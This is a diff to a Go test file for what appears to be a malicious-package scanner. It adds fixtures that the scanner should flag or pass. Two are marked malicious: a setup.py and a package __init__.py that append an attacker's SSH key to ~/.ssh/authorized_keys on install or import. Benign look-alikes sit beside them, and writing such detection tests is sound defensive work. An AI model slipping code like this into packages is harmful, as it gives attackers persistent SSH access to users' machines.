@@ -154,6 +154,14 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import os, requests\nfrom selenium import webdriver\ndef driver():\n    opts = webdriver.ChromeOptions()\n" +
 			"    opts.add_argument('--user-data-dir=' + os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data'))\n    return webdriver.Chrome(options=opts)\n" +
 			"def status():\n    return requests.get('https://api.example.invalid/status').json()\n"}, "", Clean},
+		{"a key appended to authorized_keys by setup.py", map[string]string{"setup.py": "" +
+			"import os\nfrom setuptools import setup\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3Nza attacker')\nsetup(name='p')\n"}, "persistence", Malicious},
+		{"a key echoed into authorized_keys on import", map[string]string{"p/__init__.py": "" +
+			"import os\nos.system('echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys')\n"}, "persistence", Malicious},
+		{"a provisioning tool's command adding the key it is given", map[string]string{"p/provision.py": "" +
+			"import os\ndef add_key(pubkey):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n        f.write(pubkey + '\\n')\n"}, "", Clean},
+		{"an SSH library reading authorized_keys on import", map[string]string{"p/__init__.py": "" +
+			"import os\nKEYS = os.path.expanduser('~/.ssh/authorized_keys')\nALLOWED = open(KEYS).read().split() if os.path.exists(KEYS) else []\n"}, "", Clean},
 		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
 			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
 			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
